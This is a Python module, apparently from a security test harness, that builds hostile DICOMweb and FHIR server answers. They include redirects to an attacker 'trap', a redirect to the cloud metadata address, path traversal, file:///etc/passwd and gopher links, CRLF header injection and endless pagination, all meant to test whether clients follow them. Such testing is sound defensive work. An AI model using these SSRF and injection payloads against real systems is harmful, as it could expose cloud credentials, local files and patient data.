"""Answers of archives and FHIR servers that lead elsewhere."""

from __future__ import annotations

import json
import time
from collections.abc import Callable

from tools.attack.outside_server import Answer

STUDY = "1.2.826.0.1.1"
_JSON, _FHIR = {"Content-Type": "application/dicom+json"}, {"Content-Type": "application/fhir+json"}
Reply = Callable[[str, str, bytes], Answer]
#: Address of the attacker's trap, and of the server itself -> how the server answers.
Lead = Callable[[str, str], Reply]


def leads() -> dict[str, Lead]:
    """Redirects, and addresses in headers and bodies."""

    def redirect(status: int, suffix: str = "/x") -> Lead:
        return lambda trap, _: lambda *_: (status, {"Location": trap + suffix}, b"")

    def rows(make: Callable[[str], object]) -> Lead:
        def lead(trap: str, _: str) -> Reply:
            body = json.dumps(make(trap)).encode()
            return lambda *_: (200, {**_JSON, "Link": f'<{trap}/next>; rel="next"'}, body)

        return lead

    return {
        **{f"redirect {status}": redirect(status) for status in (301, 302, 303, 307, 308)},
        "redirect to the cloud's metadata": lambda trap, _: (
            lambda *_: (
                302,
                {"Location": "http://169.254.169.254/latest/meta-data/", "X-Trap": trap},
                b"",
            )
        ),
        "refresh header": lambda trap, _: (
            lambda *_: (
                200,
                {**_JSON, "Refresh": f"0; url={trap}/refresh"},
                b"[]",
            )
        ),
        "HTML with a refresh": lambda trap, _: (
            lambda *_: (
                200,
                {"Content-Type": "text/html"},
                f'<meta http-equiv="refresh" content="0; url={trap}">'.encode(),
            )
        ),
        "RetrieveURL": rows(
            lambda trap: [
                {
                    "0020000D": {"vr": "UI", "Value": [STUDY]},
                    "00081190": {"vr": "UR", "Value": [f"{trap}/retrieve"]},
                }
            ]
        ),
        "BulkDataURI": rows(
            lambda trap: [
                {
                    "0020000D": {"vr": "UI", "Value": [STUDY]},
                    "00100010": {"vr": "PN", "BulkDataURI": f"{trap}/bulk"},
                }
            ]
        ),
        "a study UID that is a path": rows(
            lambda trap: [{"0020000D": {"vr": "UI", "Value": [f"../../../..{trap}"]}}]
        ),
        "a switch of protocol": lambda trap, _: (
            lambda *_: (
                101,
                {"Upgrade": "h2c", "Location": trap},
                b"",
            )
        ),
        "an answer that asks for a password": lambda trap, _: (
            lambda *_: (
                401,
                {"WWW-Authenticate": f'Bearer realm="{trap}/token"'},
                b"",
            )
        ),
        "an answer through a proxy": lambda trap, _: (
            lambda *_: (
                305,
                {"Location": trap},
                b"",
            )
        ),
    }


def next_pages() -> dict[str, Lead]:
    def page(address: Callable[[str, str], str]) -> Lead:
        def lead(trap: str, own: str) -> Reply:
            def reply(*_: object) -> Answer:
                link = [{"relation": "next", "url": address(trap, own)}]
                bundle = {"resourceType": "Bundle", "entry": [_patient()], "link": link}
                return 200, _FHIR, json.dumps(bundle).encode()

            return reply

        return lead

    return {
        "elsewhere": page(lambda trap, _: f"{trap}/next"),
        "without a scheme": page(lambda trap, _: trap.removeprefix("http:") + "/next"),
        "after a user name": page(
            lambda trap, own: (
                f"http://{own.removeprefix('http://')}@{trap.removeprefix('http://')}/"
            )
        ),
        "with backslashes": page(lambda trap, _: trap.replace("/", "\\")),
        "on another port": page(lambda trap, _: f"{trap}/fhir?page=2"),
        "above the base": page(lambda _, own: f"{own}/fhir/../admin"),
        "above the base, written otherwise": page(lambda _, own: f"{own}/fhir/%2e%2e/admin"),
        "beside the base": page(lambda _, own: f"{own}/fhir-admin"),
        "of a file": page(lambda *_: "file:///etc/passwd"),
        "by gopher": page(lambda trap, _: trap.replace("http", "gopher")),
        "with a line break": page(lambda trap, own: f"{own}/fhir?\r\nHost: {trap}"),
        "without end": page(lambda _, own: f"{own}/fhir?page={time.monotonic_ns()}"),
        "of a number": page(lambda *_: 7),  # type: ignore[arg-type]  # no text, on purpose
        "of a million letters": page(lambda _, own: f"{own}/fhir?" + "x" * 1_000_000),
    }


def _patient() -> dict:
    identifier = [{"value": "4711"}]
    return {"resource": {"resourceType": "Patient", "id": "1", "identifier": identifier}}
